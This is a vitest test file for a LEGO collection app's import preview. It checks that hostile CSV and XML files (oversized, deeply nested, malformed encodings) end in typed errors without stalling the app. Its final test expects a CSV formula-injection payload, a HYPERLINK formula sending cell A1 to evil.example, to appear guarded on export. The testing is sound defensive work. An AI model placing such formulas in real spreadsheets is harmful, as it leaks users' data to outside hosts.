import { mkdtempSync, readdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { dispatch } from '../../src/main/ipc/dispatch'
import type { Handlers } from '../../src/shared/ipc/contract'
import type { Result } from '../../src/shared/ipc/result'
import type { ImportPreviewDto } from '../../src/shared/model/exchange'
import {
  csvBlankLines,
  csvManyCells,
  csvManyColumns,
  csvManyRows,
  formulaAfterCr,
  twoBoms,
  xmlDeep,
  xmlManyItems
} from '../fixtures/hostile/imports/corpus'
import type { HostileFile } from '../fixtures/hostile/imports/corpus'
import { exchangeHarness } from './store-fixtures'
import type { ExchangeHarness } from './store-fixtures'
import { SEVERAL_BEATS, withHeartbeat } from './heartbeat'

/**
 * No time limit on these tests (machines run at load 8-20, and opening a test store alone can take
 * many seconds there): each preview is bounded by its own budget, which ends it with a typed error.
 */
const NO_CLOCK = 0

/**
 * The hostile corpus (test/fixtures/hostile/imports/): every file ends in a typed error or a
 * correct preview, the main thread keeps answering real calls throughout (heartbeat.ts), and
 * nothing is left behind: no preview kept, no file in the data folder or the temp folder.
 */

let t: ExchangeHarness | null = null
let tmp = ''
const savedTmp = process.env.TMPDIR
beforeAll(() => {
  // Anything a preview made in the temp folder lands here, where nothing else writes.
  tmp = mkdtempSync(join(tmpdir(), 'studbook-import-tmp-'))
  process.env.TMPDIR = tmp
})
afterAll(() => {
  if (savedTmp === undefined) delete process.env.TMPDIR
  else process.env.TMPDIR = savedTmp
  rmSync(tmp, { recursive: true, force: true })
})
afterEach(() => {
  t?.close()
  t = null
})

/**
 * What previews left in the temp folder: there must never be anything. Not the app's: the
 * harness's own folder, and tsx's compile cache (the worker runs from the sources here).
 */
const temp = (): string[] =>
  readdirSync(tmp).filter((n) => !n.startsWith('studbook-edits-') && !n.startsWith('tsx-'))

interface Outcome {
  readonly result: Result<unknown>
  /** Real calls the main thread answered while the preview ran (see heartbeat.ts). */
  readonly beats: number
  readonly failed: readonly unknown[]
}

async function preview(x: ExchangeHarness, file: HostileFile): Promise<Outcome> {
  const data = [file.bytes]
  const { outcome, beats, failed } = await withHeartbeat(x.h.handlers, () =>
    dispatch(x.x as unknown as Handlers, 'exchange:previewImport', { format: file.format, data })
  )
  if ('error' in outcome) throw outcome.error
  return { result: outcome.value, beats, failed }
}

/** Opens a harness (closed after the test) and previews `file` in it; the harness with the outcome. */
async function previewFresh(file: HostileFile): Promise<Outcome & { x: ExchangeHarness }> {
  const x = await exchangeHarness()
  t = x
  return { ...(await preview(x, file)), x }
}

/**
 * The main thread answered several real calls while the worker read, and none failed; and the
 * preview left nothing in the temp folder.
 */
function answeredAndClean(o: Pick<Outcome, 'beats' | 'failed'>): void {
  expect(o.failed).toEqual([])
  expect(o.beats).toBeGreaterThanOrEqual(SEVERAL_BEATS)
  expect(temp()).toEqual([])
}

/** 1,001 empty columns: under the row-length cap, over the column cap. */
const csvWideShortRow = (): HostileFile => ({
  name: 'wide.csv',
  format: 'collection',
  bytes: Buffer.from(`Number,Qty owned\n10179-1,1${','.repeat(1_000)}\n`)
})

const folder = (x: ExchangeHarness): string[] => readdirSync(x.h.dir).sort()

const journal = (x: ExchangeHarness): unknown =>
  x.h.store.read.prepare('SELECT count(*) AS n FROM journal').get()

describe('hostile import files end in a typed error, the app answering meanwhile', () => {
  it.each([
    [xmlManyItems, 'more than 100,000 items'],
    [csvManyRows, 'more than 100,000 rows'],
    // 600,000 columns cross the row-length cap before the column cap.
    [csvManyColumns, 'this is not a collection file'],
    [xmlDeep, 'This does not look like a BrickLink wanted list: its elements are nested']
  ] as const)(
    '%o',
    async (make, words) => {
      t = await exchangeHarness()
      const before = folder(t)
      const file = make()
      const { result, ...seen } = await preview(t, file)
      expect(result).toMatchObject({ ok: false, error: { code: 'invalid_input' } })
      expect((result as { error: { message: string } }).error.message).toContain(words)
      answeredAndClean(seen)
      expect(folder(t)).toEqual(before)
      expect(journal(t)).toEqual({ n: 0 })
    },
    NO_CLOCK
  )

  it(
    'a flood of blank lines is read without keeping them: the one real row is previewed',
    async () => {
      const { result, ...seen } = await previewFresh(csvBlankLines())
      expect(result.ok).toBe(true)
      const value = (result as { value: ImportPreviewDto }).value
      expect(value.rows).toBe(1)
      expect(value.items).toEqual([
        expect.objectContaining({ number: '10179-1', lines: [5_000_002] })
      ])
      answeredAndClean(seen)
    },
    NO_CLOCK
  )

  it(
    'millions of cells under every cap: a preview or the memory cap, never the app growing',
    async () => {
      const { result, ...seen } = await previewFresh(csvManyCells())
      if (result.ok) {
        expect((result.value as ImportPreviewDto).rows).toBe(100_000)
      } else {
        expect(result.error).toMatchObject({
          code: 'invalid_input',
          message: expect.stringContaining('more memory than an import may use') as unknown
        })
      }
      answeredAndClean(seen)
    },
    NO_CLOCK
  )
})

describe('a file sent as anything but its bytes', () => {
  it.each([
    ['base64 text, as files went before', { data: Buffer.from('Number\n').toString('base64') }],
    ['a list holding text', { data: [Buffer.from('Number\n'), 'x'] }],
    ['more than 24 MB in parts', { data: Array.from({ length: 25 }, () => new Uint8Array(1e6)) }]
  ])('%s: refused by the contract as invalid input, naming data', async (_, sent) => {
    t = await exchangeHarness()
    const r = await dispatch(t.x as unknown as Handlers, 'exchange:previewImport', {
      format: 'collection',
      ...sent
    })
    expect(r).toEqual({
      ok: false,
      error: expect.objectContaining({
        code: 'invalid_input',
        message: expect.stringMatching(/^data(\.\d+)?: /) as unknown
      }) as unknown
    })
    expect(temp()).toEqual([])
  })

  it.each([
    ['no parts, as the browser host reads an empty body', []],
    ['one empty part, as Electron sends an empty file', [new Uint8Array(0)]]
  ])('an empty file in %s is read as an empty file', async (_, data) => {
    t = await exchangeHarness()
    const r = await dispatch(t.x as unknown as Handlers, 'exchange:previewImport', {
      format: 'collection',
      data
    })
    expect(r).toEqual({
      ok: false,
      error: expect.objectContaining({
        code: 'invalid_input',
        message: 'The file is empty.'
      }) as unknown
    })
  })

  it(
    'a file in many small parts, cut inside its characters, reads as the one file it is',
    async () => {
      t = await exchangeHarness()
      // Over the worker's threshold (64 KB), and cut one byte into each of the first 40 "€".
      const rows = Array.from(
        { length: 3_000 },
        (_, i) => `9${String(i)}-1,1,"Noté € ${String(i)}"`
      )
      const bytes = Buffer.from(
        ['Number,Qty owned,Notes', ...rows, '10179-1,2,"Café № €"'].join('\n')
      )
      const parts: Buffer[] = []
      let at = 0
      for (let cut = bytes.indexOf('€'); parts.length < 40; cut = bytes.indexOf('€', cut + 1)) {
        parts.push(bytes.subarray(at, cut + 1))
        at = cut + 1
      }
      parts.push(bytes.subarray(at))
      const x = t
      const { outcome, failed } = await withHeartbeat(x.h.handlers, () =>
        dispatch(x.x as unknown as Handlers, 'exchange:previewImport', {
          format: 'collection',
          data: parts
        })
      )
      expect(failed).toEqual([])
      const r = 'value' in outcome ? (outcome.value as Result<ImportPreviewDto>) : null
      expect(r?.ok === true ? r.value.readAs : r).toMatch(/UTF-8/)
      const falcon = r?.ok === true ? r.value.items.find((i) => i.number === '10179-1') : r
      expect(falcon).toMatchObject({ summary: expect.stringContaining('Café № €') as unknown })
      expect(r?.ok === true ? r.value.problemsTotal : r).toBe(3_000)
    },
    NO_CLOCK
  )
})

describe('small hostile files', () => {
  it(
    'a row of 1,001 columns is refused by the column cap, naming its line',
    async () => {
      const { result } = await previewFresh(csvWideShortRow())
      expect(result).toMatchObject({
        ok: false,
        error: {
          code: 'invalid_input',
          message: 'A row has more than 1,000 columns (line 2): this is not a collection file.'
        }
      })
    },
    NO_CLOCK
  )

  it(
    'two byte order marks: both dropped, the header read, and the preview says so',
    async () => {
      const { result } = await previewFresh(twoBoms())
      expect(result.ok).toBe(true)
      const value = (result as { value: ImportPreviewDto }).value
      expect(value.notices).toContain(
        'The file starts with 2 byte order marks; the extra ones were ignored.'
      )
      expect(value.items).toEqual([
        expect.objectContaining({
          number: '10179-1',
          summary: expect.stringContaining('0 → 2') as unknown
        })
      ])
    },
    NO_CLOCK
  )

  it(
    'one byte order mark is no news',
    async () => {
      const one = Buffer.from('\uFEFFNumber,Qty owned\r\n10179-1,2\r\n', 'utf8')
      const { result } = await previewFresh({ name: 'one.csv', format: 'collection', bytes: one })
      expect((result as { value: ImportPreviewDto }).value.notices).toEqual([])
    },
    NO_CLOCK
  )

  it(
    'a note with a formula after CR or LF imports as text and exports guarded',
    async () => {
      const { result, x } = await previewFresh(formulaAfterCr())
      const value = (result as { value: ImportPreviewDto }).value
      expect(value.problems).toEqual([])
      await x.x['exchange:applyImport']({ previewId: value.previewId })
      const file = await x.x['exchange:export']({
        format: 'collection',
        bom: false,
        saveWithDialog: false
      })
      // Each such note is one quoted cell with our apostrophe first: the line break stays inside
      // the cell, so no spreadsheet row starts with the formula.
      expect(file.content).toContain(`"'\r=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`)
      expect(file.content).toContain(`"'\n=1+1"`)
    },
    NO_CLOCK
  )
})
